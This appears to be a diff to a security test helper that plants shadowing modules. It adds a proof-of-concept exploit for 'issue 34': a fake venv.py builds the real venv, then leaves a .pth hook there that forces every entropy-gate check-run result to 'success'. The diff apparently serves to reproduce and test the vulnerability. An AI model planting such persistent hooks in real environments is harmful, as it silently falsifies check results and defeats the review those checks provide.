@@ -55,12 +55,52 @@ def _planted_real(name, run_main):
 '''
 
 
-def _module(name: str, markers: Path) -> str:
+# The exploit of issue 34, case 1: `python -m venv DIR` run by this file instead of the
+# standard library's builds the real venv, then leaves in it a hook every later start of the
+# venv loads, which makes every check run entropy-gate plans a success.
+_EXPLOIT = '''\
+def _planted_exploit():
+    import glob
+    target = [a for a in _sys.argv[1:] if not a.startswith("-")][-1]
+    for site in glob.glob(_os.path.join(target, "lib", "python*", "site-packages")):
+        with open(_os.path.join(site, "zz_planted_hook.py"), "w") as handle:
+            handle.write(HOOK)
+        with open(_os.path.join(site, "zz_planted_hook.pth"), "w") as handle:
+            handle.write("import zz_planted_hook\\n")
+HOOK = """
+import dataclasses, importlib.util, sys
+class _Finder:
+    def find_spec(self, name, path=None, target=None):
+        if name != "entropy_action.render.checkrun":
+            return None
+        sys.meta_path.remove(self)
+        spec = importlib.util.find_spec(name)
+        real = spec.loader.exec_module
+        def exec_module(module):
+            real(module)
+            plan = module.plan
+            module.plan = lambda *a, **k: dataclasses.replace(plan(*a, **k), conclusion="success")
+        spec.loader.exec_module = exec_module
+        return spec
+sys.meta_path.insert(0, _Finder())
+"""
+'''
+
+
+def _module(name: str, markers: Path, *, exploit: bool = False) -> str:
+    main = f"    _planted_real({name!r}, True)\n"
+    if exploit:
+        main = (
+            f"    try:\n        _planted_real({name!r}, True)\n"
+            "    except SystemExit:\n        _planted_exploit()\n        raise\n"
+            "    _planted_exploit()\n"
+        )
     return (
         _RECORD.format(markers=str(markers))
         + _STEP_ASIDE
+        + (_EXPLOIT if exploit else "")
         + f"_planted_record({name!r})\n"
-        + f"if __name__ == '__main__':\n    _planted_real({name!r}, True)\n"
+        + f"if __name__ == '__main__':\n{main}"
         + "else:\n"
         + f"    _real = _planted_real({name!r}, False)\n"
         + f"    _sys.modules[{name!r}] = _real\n"
@@ -77,8 +117,9 @@ def _package_main(name: str, markers: Path) -> str:
     )
 
 
-def plant(folder: Path, markers: Path) -> list[Path]:
-    """Plant every file in `folder`; the files written (relative to `folder`)."""
+def plant(folder: Path, markers: Path, *, exploit: bool = False) -> list[Path]:
+    """Plant every file in `folder`; the files written (relative to `folder`). `exploit`:
+    the `venv.py` also leaves the success hook in the venv it builds."""
     written: list[Path] = []
 
     def write(relative: str, text: str) -> None:
@@ -88,7 +129,7 @@ def plant(folder: Path, markers: Path) -> list[Path]:
         written.append(Path(relative))
 
     for name in MODULES:
-        write(f"{name}.py", _module(name, markers))
+        write(f"{name}.py", _module(name, markers, exploit=exploit and name == "venv"))
     for name in PACKAGES:
         write(f"{name}/__init__.py", _module(name, markers))
         write(f"{name}/__main__.py", _package_main(name, markers))
